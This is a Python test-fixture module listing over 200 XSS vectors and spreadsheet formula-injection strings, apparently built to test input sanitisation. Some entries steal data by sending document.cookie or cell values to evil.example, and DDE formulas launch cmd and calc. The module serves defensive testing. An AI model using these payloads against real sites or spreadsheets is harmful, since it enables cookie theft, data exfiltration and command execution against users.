"""Hostile free-text payloads: HTML/JS injection and spreadsheet formulas (200+).

`XSS` are markup and script vectors (every one contains `<`, `"` or a `javascript:` URL);
`FORMULAS` start with = + - @ (or a tab / CR before one) and would evaluate in a
spreadsheet if written as a formula. `PAYLOADS` is both, each made unique by an
index so a hit can be traced to its source field.
"""

from __future__ import annotations

_XSS_BASE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>fetch('//evil.example/?c='+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(document.domain)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">点我</a>",
    "<a href=javascript:alert(1)>x</a>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<form action=\"//evil.example\"><button>提交</button></form>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script\x20type=\"text/javascript\">alert(1)</script>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<<script>alert(1)//<</script>",
    "{{7*7}}<script>alert(1)</script>",
    "${alert(1)}<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "张三<script>alert('网格')</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
)
_FORMULA_BASE = (
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example/\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A10)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=SUM(1,2)",
    "=A1*2",
    "=INDIRECT(\"A1\")",
    "\t=1+1",
    "\r=1+1",
    "=1+1;=2+2",
    "+HYPERLINK(\"http://evil.example\")",
    "-HYPERLINK(\"http://evil.example\")",
    "@HYPERLINK(\"http://evil.example\")",
    "=\"网格\"&\"员\"",
    "=CHAR(60)&\"script\"",
    "=IMAGE(\"http://evil.example/x.png\")",
)


def _variants() -> tuple[str, ...]:
    out: list[str] = []
    for n, base in enumerate(_XSS_BASE):
        out += [f"{base}#x{n}", f"投诉{n}：{base}", f"{base} 备注{n}", f"[{n}]{base}"]
    for n, base in enumerate(_FORMULA_BASE):
        out += [f"{base}#f{n}", f"{base}*{n}", f"{base} {n}"]
    return tuple(out)


PAYLOADS: tuple[str, ...] = _variants()
XSS: tuple[str, ...] = tuple(p for p in PAYLOADS if "<" in p or "javascript:" in p)
FORMULAS: tuple[str, ...] = tuple(p for p in PAYLOADS if p.lstrip("\t\r")[:1] in "=+-@")
assert len(PAYLOADS) >= 200 and len(set(PAYLOADS)) == len(PAYLOADS)
